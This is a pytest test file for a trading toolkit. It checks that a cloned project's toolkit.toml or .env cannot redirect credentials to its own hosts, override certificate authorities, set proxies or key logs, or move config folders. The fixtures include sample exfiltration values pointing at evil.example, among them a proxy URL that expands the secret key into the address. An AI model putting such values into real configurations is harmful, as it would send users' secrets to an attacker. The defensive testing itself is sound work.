"""A cloned project cannot send anyone's credentials to its own addresses."""

from __future__ import annotations

import pytest
from typer.testing import CliRunner

import toolkit as tk
from toolkit.auth.tokens.single_flight import MemoryTokenStore
from toolkit.auth.tokens.token import FileTokenStore
from toolkit.cli.credentials_command import app
from toolkit.local.folders import cache_folder, config_folder

PAPER = ("TOOLKIT_PAPER_KEY_ID", "TOOLKIT_PAPER_SECRET_KEY")
BROKER = ("TOOLKIT_BROKER_SANDBOX_CLIENT_ID", "TOOLKIT_BROKER_SANDBOX_CLIENT_SECRET")


@pytest.fixture
def clone_of(home, monkeypatch):
    """Return a function that makes a project with addresses of a host, and goes there."""
    for name in ("TOOLKIT_OFFLINE", *PAPER, *BROKER):
        monkeypatch.delenv(name, raising=False)

    def make(name, host, more=""):
        folder = home / name
        folder.mkdir(exist_ok=True)
        names = ("trading_paper", "auth_sandbox", "broker_sandbox")
        lines = [f'{address} = "https://{host}/{address}"' for address in names]
        (folder / "toolkit.toml").write_text("\n".join([more, "[addresses]", *lines, ""]))
        monkeypatch.chdir(folder)
        return folder

    return make


@pytest.fixture(params=["variables", ".env"])
def hold(request, monkeypatch):
    """Return a function that puts credentials into variables or the .env of a project, the same each time."""

    def put(names, folder):
        for name, text in zip(names, ("fake-client-id-1", "fake-Canary-41aB8Qx9"), strict=True):
            if request.param == "variables":
                monkeypatch.setenv(name, text)
            else:
                with (folder / ".env").open("a") as file:
                    file.write(f"{name}={text}\n")

    return put


def remembered():
    return sorted(file.name for file in config_folder().glob("destinations*"))


def allow(environment):
    """Allow credentials what the project of the working folder says, with the command that the error names."""
    return CliRunner().invoke(app, ["allow", "default", "--environment", environment, "--yes"])


def opened(service, environment, **options):
    return tk.Session(environment, transport=service, token_store=MemoryTokenStore(), **options)


@pytest.mark.parametrize(("environment", "names"), [("paper", PAPER), ("broker-sandbox", BROKER)])
def test_a_cloned_project(clone_of, hold, service, environment, names):
    """A project's addresses are refused, token requests included, until allowed; and those of a clone again."""
    hold(names, clone_of("mine", "service.example"))
    with pytest.raises(tk.UnsafeAddress, match=r"https://service\.example/.*~/mine/toolkit\.toml"):
        opened(service, environment).accounts()
    assert service.requests == []
    assert remembered() == []
    allow(environment)
    for _ in range(2):
        opened(service, environment).accounts()
    before = len(service.requests)
    hold(names, clone_of("clone", "evil.example"))
    session = opened(service, environment)  # opening sends nothing
    for _ in range(2):
        with pytest.raises(tk.UnsafeAddress) as caught:
            session.accounts()
    assert len(service.requests) == before
    for text in ("https://evil.example/", "~/clone/toolkit.toml", "https://service.example/", "~/mine/toolkit.toml"):
        assert text in caught.value.what
    assert f"`toolkit credentials allow default --environment {environment}`" in caught.value.next_step
    result = allow(environment)
    assert result.exit_code == 0, result.output
    session.accounts()
    assert service.requests[-1].url.host == "evil.example"


def test_replay_neither_asks_nor_writes(clone_of, hold, service):
    """A replay in a clone is not refused, and neither sessions nor calls write anything."""
    hold(PAPER, clone_of("mine", "service.example"))
    mine = tk.Settings({"trading_paper": "https://service.example"})
    with opened(service, "paper", cassette="tour", settings=mine) as session:
        session.accounts()
    recording = session.cassette.path
    hold(PAPER, clone_of("clone", "evil.example"))
    for mode in ("none", "once", "new_episodes"):
        with opened(service, "paper", cassette=recording, mode=mode) as session:
            session.accounts()
    assert remembered() == []


@pytest.mark.filterwarnings("ignore:No system keyring")
def test_saved_profile_at_live_use(clone_of, service, monkeypatch):
    """Credentials of a saved profile stay bound when they are passed on to a session with other settings."""
    monkeypatch.setattr("toolkit.auth.profiles.saved._keyring", lambda: None)  # no keyring
    clone_of("mine", "service.example")
    tk.save_credentials(tk.KeyPair("fake-key-id-1", "fake-Canary-41aB8Qx9", environment="paper"), "a")
    loaded = opened(service, "paper").credentials
    clone_of("clone", "evil.example")
    with pytest.raises(tk.UnsafeAddress, match="as saved"):
        opened(service, None, credentials=loaded).accounts()
    assert service.requests == []


def test_authorities_of_a_clone(clone_of, monkeypatch):
    """A .env that the editor exported does not choose whom a live session trusts; the user's own variable does."""
    pair = tk.KeyPair("fake-client-id-1", "fake-Canary-41aB8Qx9", environment="paper")
    clone = clone_of("clone", "service.example")
    monkeypatch.setenv("TOOLKIT_VERIFY", "ca.pem")
    assert tk.Session(credentials=pair)._below.verify == str(clone / "ca.pem")
    (clone / ".env").write_text("TOOLKIT_VERIFY=ca.pem\n")
    with pytest.raises(tk.UnsafeAddress, match="TOOLKIT_VERIFY") as caught:
        tk.Session(credentials=pair)
    assert "verify=" in caught.value.next_step
    assert tk.Session(credentials=pair, verify="system")._below.verify == "system"
    monkeypatch.setenv("TOOLKIT_VERIFY", "system")
    assert tk.Session(credentials=pair)._below.verify == "system"
    assert tk.AsyncSession(credentials=pair)._below.verify == "system"


@pytest.mark.parametrize(
    ("name", "own"),
    [
        *((name, {"verify": "ca.pem"}) for name in ("SSL_CERT_FILE", "SSL_CERT_DIR")),
        *((name, {"proxy": "http://proxy.example:3128"}) for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY")),
        ("SSLKEYLOGFILE", None),
    ],
)
def test_variables_of_openssl_and_httpx(clone_of, monkeypatch, name, own):
    """Nor does a .env choose authorities, a proxy, which a secret could be expanded into, or a key log; code does."""
    pair = tk.KeyPair("fake-client-id-1", "fake-Canary-41aB8Qx9", environment="paper")
    clone = clone_of("clone", "service.example")
    monkeypatch.setenv(name, str(clone))
    kinds = [(kind, verify) for kind in (tk.Session, tk.AsyncSession) for verify in (True, "system")]
    for kind, verify in kinds:
        kind(credentials=pair, verify=verify)
    (clone / ".env").write_text(f"{name}=http://${{TOOLKIT_PAPER_SECRET_KEY}}:x@evil.example:3128\n")
    for kind, verify in kinds:
        with pytest.raises(tk.UnsafeAddress, match=name.upper()) as caught:
            kind(credentials=pair, verify=verify)
        assert "evil" not in str(caught.value)
    if own is not None:
        assert tk.Session(credentials=pair, **own)
    if "PROXY" in name:
        local = tk.Settings({"trading_paper": "http://127.0.0.1:8000"}, project=clone)
        assert tk.Session(credentials=pair, settings=local)


@pytest.mark.parametrize("name", ["XDG_CONFIG_HOME", "xdg_config_home"])
def test_folders_of_ones_own(clone_of, home, monkeypatch, name):
    """A .env chooses neither the folder of what is remembered, nor those of shared tokens and of the play log."""
    clone = clone_of("clone", "service.example")
    chosen = {name.upper(): clone / "config", "XDG_CACHE_HOME": clone / "cache", "TOOLKIT_PLAY_LOG": clone / "plays"}
    for variable, folder in chosen.items():
        monkeypatch.setenv(variable, str(folder))
    assert config_folder().parent == clone / "config"  # the user's own word
    (clone / ".env").write_text(f"{name}=x\nXDG_CACHE_HOME=x\nTOOLKIT_PLAY_LOG=x\n")
    for folder in (config_folder(), cache_folder()):
        assert folder.is_relative_to(home)
        assert not folder.is_relative_to(clone)
    store = FileTokenStore()
    with tk.Cassette("tour", mode="all"):
        assert store.folder.is_relative_to(cache_folder())
    assert not (clone / "plays").exists()
